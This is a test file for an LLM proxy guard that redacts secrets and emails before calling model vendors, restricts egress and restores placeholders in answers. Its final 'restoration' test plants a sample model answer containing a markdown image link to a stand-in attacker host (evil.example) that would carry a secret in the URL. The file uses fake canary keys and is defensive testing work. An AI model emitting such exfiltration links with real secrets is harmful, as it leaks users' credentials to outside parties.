import { createHmac } from 'node:crypto';
import { inspect } from 'node:util';
import { type FakeLLMVendor, startFakeLLMVendor } from '@clawexchange/test-utils';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { LLMGuardConfig } from './config.js';
import { createLLMGuard } from './create-llm-guard.js';
import { isLLMGuardError } from './errors.js';
import type { ProviderKind } from './types.js';

const AWS_KEY = 'AKIAQ7X3KZ2M4N5P6R8T';
const EMAIL = 'canary.person@example.org';
const API_KEY = 'sk-test-api-key-never-in-output-0001';
const RUN_KEY = 'k'.repeat(32);
const SCHEMA = {
  type: 'object',
  properties: { scam: { type: 'boolean' }, note: { type: 'string' } },
  required: ['scam'],
  additionalProperties: false,
} as const;
const PAGE = {
  title: `Contact ${EMAIL} today`,
  body: `Use key ${AWS_KEY} to pay. ${'word '.repeat(150)}`,
  extra: 'third field',
  fourth: 'never sent: only three snippets',
};
const SELECTORS = [
  { name: 'title' },
  { name: 'missing' },
  { name: 'body' },
  { name: 'extra' },
  { name: 'fourth' },
];

let vendor: FakeLLMVendor;
let other: FakeLLMVendor;
const sleeps: number[] = [];

beforeAll(async () => {
  [vendor, other] = await Promise.all([startFakeLLMVendor(), startFakeLLMVendor()]);
});
afterAll(async () => {
  await Promise.all([vendor.close(), other.close()]);
});
afterEach(() => {
  vendor.requests.length = 0;
  other.requests.length = 0;
  sleeps.length = 0;
});

function urlOf(kind: ProviderKind): string {
  return kind === 'anthropic' ? vendor.anthropicUrl : vendor.openAiUrl;
}

function guardFor(kind: ProviderKind, overrides: Partial<LLMGuardConfig> = {}) {
  return createLLMGuard({
    provider: { kind, url: urlOf(kind), apiKey: API_KEY, model: 'test-model', retryBaseMs: 100 },
    dataUsage: 'none',
    redaction: { runIdKey: RUN_KEY },
    sleep: async (ms) => {
      sleeps.push(ms);
    },
    random: () => 0.5,
    ...overrides,
  });
}

function call(guard: ReturnType<typeof guardFor>, runId = 'run-123') {
  return guard.call({
    task: 'Is this a scam?',
    schema: SCHEMA,
    page: PAGE,
    selectors: SELECTORS,
    runId,
  });
}

function allBytes(): string {
  return vendor.requests.map((r) => JSON.stringify(r.headers) + r.body + r.path).join('\n');
}

function expectNoCanary(): void {
  const bytes = allBytes();
  expect(bytes).not.toContain(AWS_KEY);
  expect(bytes).not.toContain(EMAIL);
  expect(bytes).not.toContain('run-123');
}

async function codeOf(p: Promise<unknown>): Promise<string> {
  try {
    await p;
  } catch (e) {
    if (isLLMGuardError(e)) return e.code;
    throw e;
  }
  return 'resolved';
}

const RUN_HASH = createHmac('sha256', RUN_KEY).update('llm-guard/run-id\0run-123').digest('hex');
// The 512-character cut applies to the redacted text (the placeholder is longer than the key).
const BODY_SNIPPET = `Use key [SECRET:aws-access-key#1] to pay.${' word'.repeat(94)}`;
const USER_TEXT = `Is this a scam?\n\n<context>\n### title\nContact [EMAIL#1] today\n\n### body\n${BODY_SNIPPET}\n\n### extra\nthird field\n</context>`;

describe('vendor contract guard', () => {
  it.each(['training', 'retention', 'unknown'] as const)(
    'refuses dataUsage %s at construction, before any I/O',
    (usage) => {
      expect(() => guardFor('openai', { dataUsage: usage })).toThrowError(
        expect.objectContaining({
          name: 'VendorContractError',
          code: 'LLM_GUARD_VENDOR_CONTRACT_VIOLATION',
        }),
      );
      expect(vendor.requests).toHaveLength(0);
    },
  );

  it('reads the declared usage for the provider in use, and checks it again on every call', async () => {
    expect(() => guardFor('anthropic', { dataUsage: { openai: 'none' } })).toThrowError(
      expect.objectContaining({ code: 'LLM_GUARD_VENDOR_CONTRACT_VIOLATION' }),
    );
    const usage: Record<string, string> = { anthropic: 'none' };
    const guard = guardFor('anthropic', { dataUsage: usage as LLMGuardConfig['dataUsage'] });
    usage.anthropic = 'training';
    expect(await codeOf(call(guard))).toBe('LLM_GUARD_VENDOR_CONTRACT_VIOLATION');
    expect(vendor.requests).toHaveLength(0);
  });
});

describe('config', () => {
  it('rejects unknown keys through the shared check, with a hint', () => {
    const bad = {
      ...({} as LLMGuardConfig),
      provider: { kind: 'openai', model: 'm' },
      dataUsage: 'none',
      apiUrl: 'x',
    };
    expect(() => createLLMGuard(bad as LLMGuardConfig)).toThrowError(
      expect.objectContaining({
        code: 'LLM_GUARD_INVALID_CONFIG',
        field: 'apiUrl',
        message: expect.stringContaining('provider.url'),
      }),
    );
    expect(() => guardFor('openai', { limits: { maxSnipets: 2 } as never })).toThrowError(
      expect.objectContaining({ field: 'limits.maxSnipets' }),
    );
  });

  it('keeps the API key and run-id key out of the guard object', () => {
    const guard = guardFor('openai');
    expect(JSON.stringify(guard) + inspect(guard, { depth: 5 })).not.toContain(API_KEY);
  });
});

describe.each(['openai', 'anthropic', 'openai-compatible'] as const)('%s wire format', (kind) => {
  it('sends exactly the minimised, redacted request with a hashed run id; restores the answer', async () => {
    vendor.enqueue({ kind: 'answer', text: '{"scam":true,"note":"asks to mail [EMAIL#1]"}' });
    const result = await call(guardFor(kind));
    expect(result.output).toEqual({ scam: true, note: `asks to mail ${EMAIL}` });
    expect(result.runHash).toBe(RUN_HASH);
    expect(result.snippetCount).toBe(3);
    expect(vendor.requests).toHaveLength(1);
    const req = vendor.requests[0];
    const body = JSON.parse(req?.body ?? '{}');
    const system = expect.stringContaining('JSON Schema: {"type":"object"');
    if (kind === 'anthropic') {
      expect(req?.headers['x-api-key']).toBe(API_KEY);
      expect(req?.headers['anthropic-version']).toBe('2023-06-01');
      expect(body).toEqual({
        model: 'test-model',
        max_tokens: 1024,
        system,
        messages: [{ role: 'user', content: USER_TEXT }],
        metadata: { user_id: RUN_HASH },
      });
    } else {
      expect(req?.headers.authorization).toBe(`Bearer ${API_KEY}`);
      expect(body).toEqual({
        model: 'test-model',
        messages: [
          { role: 'system', content: system },
          { role: 'user', content: USER_TEXT },
        ],
        max_tokens: 1024,
        user: RUN_HASH,
        response_format: { type: 'json_object' },
        ...(kind === 'openai' ? { store: false } : {}),
      });
    }
    expectNoCanary();
  });

  it('streams the answer, restoring a placeholder split across deltas, never leaking canaries', async () => {
    vendor.enqueue({
      kind: 'stream',
      deltas: ['Mail [EM', 'AIL#', '1] now; key [SECRET:aws-access-key#1', '] end'],
    });
    const guard = guardFor(kind);
    const chunks: string[] = [];
    for await (const c of guard.stream({
      task: 'Summarise',
      page: PAGE,
      selectors: SELECTORS,
      runId: 'run-123',
    }))
      chunks.push(c.text);
    expect(chunks.join('')).toBe(`Mail ${EMAIL} now; key ${AWS_KEY} end`);
    for (const c of chunks) expect(c).not.toMatch(/\[[A-Z_:a-z-]*(?:#\d*)?$/);
    const body = JSON.parse(vendor.requests[0]?.body ?? '{}');
    expect(body.stream).toBe(true);
    if (kind === 'openai') expect(body.store).toBe(false);
    expectNoCanary();
  });
});

describe('artifacts', () => {
  it('are refused without keep, before any I/O', async () => {
    const body = new Uint8Array([1]);
    const input = {
      task: 't',
      schema: SCHEMA,
      page: PAGE,
      selectors: SELECTORS,
      runId: 'r',
      artifacts: [{ kind: 'screenshot', ext: 'png', contentType: 'image/png', body }],
    };
    expect(await codeOf(guardFor('openai').call(input))).toBe('LLM_GUARD_INVALID_INPUT');
    const bad = {
      ...input,
      artifacts: [{ kind: '../x', ext: 'png', contentType: 'image/png', body }],
    };
    await expect(guardFor('openai').call(bad)).rejects.toMatchObject({
      field: 'input.artifacts[0].kind',
    });
    expect(vendor.requests).toHaveLength(0);
  });
});

describe('minimisation', () => {
  it('fails with ContextLimitError before any I/O', async () => {
    const guard = guardFor('openai', { limits: { contextMaxChars: 100 } });
    await expect(call(guard)).rejects.toMatchObject({
      name: 'ContextLimitError',
      code: 'LLM_GUARD_CONTEXT_LIMIT_EXCEEDED',
      limitChars: 100,
    });
    expect(vendor.requests).toHaveLength(0);
  });
});

describe('retries', () => {
  it('retries 429 and 5xx with backoff, honouring Retry-After', async () => {
    vendor.enqueue(
      { kind: 'status', status: 429, headers: { 'retry-after': '2' } },
      { kind: 'status', status: 503 },
      { kind: 'answer', text: '{"scam":false}' },
    );
    const result = await call(guardFor('openai'));
    expect(result.attempts).toBe(3);
    expect(sleeps).toEqual([2000, 100]); // Retry-After 2 s; then 0.5 × 100 × 2¹
    expect(vendor.requests).toHaveLength(3);
  });

  it('stops after maxRetries', async () => {
    vendor.enqueue(
      { kind: 'status', status: 500 },
      { kind: 'status', status: 502 },
      { kind: 'status', status: 500 },
    );
    await expect(call(guardFor('openai'))).rejects.toMatchObject({
      code: 'LLM_GUARD_VENDOR_FAILED',
      status: 500,
    });
    expect(vendor.requests).toHaveLength(3);
  });

  it('does not retry other 4xx', async () => {
    vendor.enqueue({ kind: 'status', status: 400, body: `{"error":{"message":"echo ${EMAIL}"}}` });
    const error = await call(guardFor('openai')).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'LLM_GUARD_VENDOR_FAILED', status: 400 });
    expect(inspect(error)).not.toContain(EMAIL);
    expect(vendor.requests).toHaveLength(1);
  });

  it('times out a hanging vendor (per attempt) and reports VENDOR_TIMEOUT', async () => {
    vendor.enqueue({ kind: 'hang' }, { kind: 'hang' });
    const guard = createLLMGuard({
      provider: { kind: 'openai', url: vendor.openAiUrl, model: 'm', timeoutMs: 50, maxRetries: 1 },
      dataUsage: 'none',
      sleep: async () => undefined,
    });
    expect(await codeOf(call(guard))).toBe('LLM_GUARD_VENDOR_TIMEOUT');
    expect(vendor.requests).toHaveLength(2);
  });
});

describe('schema', () => {
  it('repairs once', async () => {
    vendor.enqueue(
      { kind: 'answer', text: '{"scam":"yes"}' },
      { kind: 'answer', text: '{"scam":true}' },
    );
    const result = await call(guardFor('openai'));
    expect(result).toMatchObject({ output: { scam: true }, repaired: true, attempts: 2 });
    const second = JSON.parse(vendor.requests[1]?.body ?? '{}');
    expect(second.messages.slice(2)).toEqual([
      { role: 'assistant', content: '{"scam":"yes"}' },
      {
        role: 'user',
        content:
          'That answer is invalid (/scam must be boolean). Reply again with only the JSON object.',
      },
    ]);
  });

  it('fails with OUTPUT_INVALID after the repair retry', async () => {
    vendor.enqueue({ kind: 'answer', text: 'not json' }, { kind: 'answer', text: '{"other":1}' });
    expect(await codeOf(call(guardFor('anthropic')))).toBe('LLM_GUARD_OUTPUT_INVALID');
    expect(vendor.requests).toHaveLength(2);
  });
});

describe('egress allowlist', () => {
  it('refuses a redirect to another origin without contacting it', async () => {
    vendor.enqueue({ kind: 'status', status: 307, headers: { location: `${other.openAiUrl}` } });
    expect(await codeOf(call(guardFor('openai')))).toBe('LLM_GUARD_EGRESS_DENIED');
    expect(other.requests).toHaveLength(0);
    expect(vendor.requests).toHaveLength(1);
  });

  it('follows a 307 that stays on the origin', async () => {
    vendor.enqueue(
      { kind: 'status', status: 307, headers: { location: '/v1/chat/completions?moved=1' } },
      { kind: 'answer', text: '{"scam":false}' },
    );
    await expect(call(guardFor('openai'))).resolves.toMatchObject({ output: { scam: false } });
    expect(vendor.requests.map((r) => r.path)).toEqual([
      '/v1/chat/completions',
      '/v1/chat/completions?moved=1',
    ]);
    expect(vendor.requests[1]?.body).toBe(vendor.requests[0]?.body);
  });
});

describe('streaming over the wire: a placeholder split at every boundary', () => {
  it.each(['openai', 'anthropic'] as const)('%s', async (kind) => {
    const raw = 'key [SECRET:aws-access-key#1] ok';
    const guard = guardFor(kind);
    for (let cut = 1; cut < raw.length; cut++) {
      vendor.enqueue({ kind: 'stream', deltas: [raw.slice(0, cut), raw.slice(cut)] });
      const chunks: string[] = [];
      for await (const c of guard.stream({
        task: 'Summarise',
        page: PAGE,
        selectors: SELECTORS,
        runId: 'run-123',
      }))
        chunks.push(c.text);
      expect(chunks.join('')).toBe(`key ${AWS_KEY} ok`);
      for (const c of chunks) expect(c).not.toMatch(/\[[A-Z_:a-z-]*(?:#\d*)?$/);
    }
    expectNoCanary();
  });
});

describe('streaming transport', () => {
  async function drain(guard: ReturnType<typeof guardFor>): Promise<string> {
    let out = '';
    for await (const c of guard.stream({
      task: 'Summarise',
      page: PAGE,
      selectors: SELECTORS,
      runId: 'run-123',
    }))
      out += c.text;
    return out;
  }

  it('retries a 429 before the stream starts, honouring Retry-After', async () => {
    vendor.enqueue(
      { kind: 'status', status: 429, headers: { 'retry-after': '1' } },
      { kind: 'stream', deltas: ['ok'] },
    );
    expect(await drain(guardFor('anthropic'))).toBe('ok');
    expect(sleeps).toEqual([1000]);
  });

  it('refuses a redirect off the origin without contacting it', async () => {
    vendor.enqueue({ kind: 'status', status: 308, headers: { location: other.anthropicUrl } });
    expect(await codeOf(drain(guardFor('anthropic')))).toBe('LLM_GUARD_EGRESS_DENIED');
    expect(other.requests).toHaveLength(0);
  });

  it('does not follow a 302 (a POST would lose its body): the call fails with the status', async () => {
    vendor.enqueue({ kind: 'status', status: 302, headers: { location: '/elsewhere' } });
    await expect(call(guardFor('openai'))).rejects.toMatchObject({
      code: 'LLM_GUARD_VENDOR_FAILED',
      status: 302,
    });
    expect(vendor.requests).toHaveLength(1);
  });
});

describe('restoration', () => {
  it('does not restore into URLs, markdown images or HTML attributes by default; opt-in per type', async () => {
    const answer = JSON.stringify({
      scam: true,
      note: `![x](https://evil.example/?k=[SECRET:aws-access-key#1]) <a href="mailto:[EMAIL#1]">[EMAIL#1]</a> https://h/[EMAIL#1]`,
    });
    vendor.enqueue({ kind: 'answer', text: answer });
    const plain = await call(guardFor('openai'));
    expect((plain.output as { note: string }).note).toBe(
      `![x](https://evil.example/?k=[SECRET:aws-access-key#1]) <a href="mailto:[EMAIL#1]">${EMAIL}</a> https://h/[EMAIL#1]`,
    );
    vendor.enqueue({ kind: 'answer', text: answer });
    const optIn = await call(
      guardFor('openai', { redaction: { runIdKey: RUN_KEY, restoreInLinks: ['EMAIL'] } }),
    );
    expect((optIn.output as { note: string }).note).toBe(
      `![x](https://evil.example/?k=[SECRET:aws-access-key#1]) <a href="mailto:${EMAIL}">${EMAIL}</a> https://h/${EMAIL}`,
    );
  });
});
